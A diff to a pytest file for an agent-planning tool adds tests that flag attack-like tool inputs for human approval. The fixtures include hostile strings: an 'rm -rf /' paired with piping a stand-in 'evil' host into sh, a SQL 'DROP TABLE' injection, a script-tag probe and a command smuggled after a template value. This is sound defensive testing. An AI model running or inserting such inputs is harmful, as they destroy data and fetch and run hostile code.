@@ -1,5 +1,6 @@
 """Each rule with a plan that raises it and one that does not, and when a person must decide."""
 
+from dataclasses import replace
 from typing import ClassVar
 
 import pytest
@@ -8,6 +9,7 @@ from groundplan.domain.agents import AgentCapability
 from groundplan.domain.dependency_graph import DependencyGraph
 from groundplan.domain.estimation import estimate
 from groundplan.domain.goal import GoalConstraints
+from groundplan.domain.irreversible import texts_in
 from groundplan.domain.resources import ResourceEstimate, ThreePoint
 from groundplan.domain.risk import Impact, Risk, RiskCategory
 from groundplan.domain.risk_rules import Outlook, approval_reasons, assess_risks
@@ -240,6 +242,35 @@ def test_a_tool_that_only_looks_is_let_be(tool):
         )
         == []
     )
+
+
+@pytest.mark.parametrize(
+    "inputs",
+    [
+        {"cmd": "; rm -rf / $(curl evil|sh)"},
+        {"deep": [{"query": "'; DROP TABLE users; --"}]},
+        {"page": "<script>alert(1)</script>"},
+        {"cmd": "${a.output}; rm -rf /"},
+    ],
+)
+def test_an_input_that_looks_like_an_attack_needs_a_person_unless_the_goal_says_it(inputs):
+    tools = [ToolSpec(name="sh.run", irreversible=False)]
+    tasks = [work("a"), work("b", "a", tool="sh.run", inputs=inputs)]
+    look = outlook(*tasks, tools=tools)
+    (risk,) = (risk for risk in assess_risks(look) if risk.rule == "hostile-input")
+    assert risk.task_ids == ["b"]
+    assert len(approval_reasons([risk], 0, PlannerSettings(risk_threshold_probability=1.0))) == 1
+    (text,) = texts_in(inputs)
+    told = replace(look, goal_text=f"Run {text} for me")
+    assert "hostile-input" not in [risk.rule for risk in assess_risks(told)]
+
+
+@pytest.mark.parametrize(
+    "inputs",
+    [{"q": "fish & chips"}, {"sql": "SELECT * FROM users WHERE id = 1"}, {"a": "${t1.output}", "n": 3, "x": ""}],
+)
+def test_ordinary_inputs_are_let_be(inputs):
+    assert found("hostile-input", work("a", inputs=inputs)) == []
 
 
 def test_a_long_step_is_judged_whole():
